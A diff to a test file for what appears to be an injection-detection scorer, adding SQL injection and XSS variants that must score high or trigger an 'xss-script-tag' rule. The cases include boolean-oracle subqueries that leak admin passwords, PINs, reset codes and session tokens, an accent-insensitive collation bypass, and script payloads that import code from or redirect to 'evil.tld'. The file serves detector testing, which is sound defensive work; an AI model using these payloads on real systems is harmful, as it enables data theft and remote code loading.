@@ -64,7 +64,13 @@ describe('traversal: an option argument after words is argument injection, not a
 
 describe('sqli (design): a whole statement is valid SQL where the application has a subquery position (forms9 85af36a)', () => {
   // `... WHERE id IN (<v>)` (a list filter): a boolean oracle on the admin's password, one character at a time
-  it.each(["select id from users where name = 'admin' and password like 'a%'", "select user_id from sessions where token like 'a%'"])('%s', (v) => {
+  it.each([
+    "select id from users where name = 'admin' and password like 'a%'",
+    "select user_id from sessions where token like 'a%'",
+    "select id from users where name = 'admin' and pass like 'a%'",
+    "select id from users where name = 'admin' and pin like '1%'",
+    "select id from users where reset_code like 'a%'",
+  ])('%s', (v) => {
     expect(score(v).score).toBeGreaterThanOrEqual(5);
   });
 });
@@ -83,5 +89,22 @@ describe('xss: the script-body look is linear in the number of open tags (forms9
     const small = work(8192);
     const large = work(16384);
     expect(large / small, `${small} -> ${large}`).toBeLessThanOrEqual(2.5);
+  });
+});
+
+describe('variants after the forms9 fixes (forms9 20c77c0, a1fee08 at 98169e8)', () => {
+  // MySQL's default collations are accent-insensitive (utf8mb4_0900_ai_ci, utf8mb4_general_ci): 'séntence' = 'sentence'
+  it("' or 'a plain séntence' = 'a plain sentence", () => {
+    expect(score("' or 'a plain séntence' = 'a plain sentence").score).toBeGreaterThanOrEqual(5);
+  });
+
+  it.each([
+    // a hashbang comment at the start of a classic script (ES2023), then code
+    "<script>#! a b\nimport('//evil.tld/x.js')",
+    // a `using` declaration in a block (explicit resource management, shipped in V8): two names side by side that parse
+    "<script>{ using x = null; import('//evil.tld/x.js') }",
+    "<script>{using x = null; top.location='//evil.tld'}",
+  ])('%j', (v) => {
+    expect(score(v).rules).toContain('xss-script-tag');
   });
 });
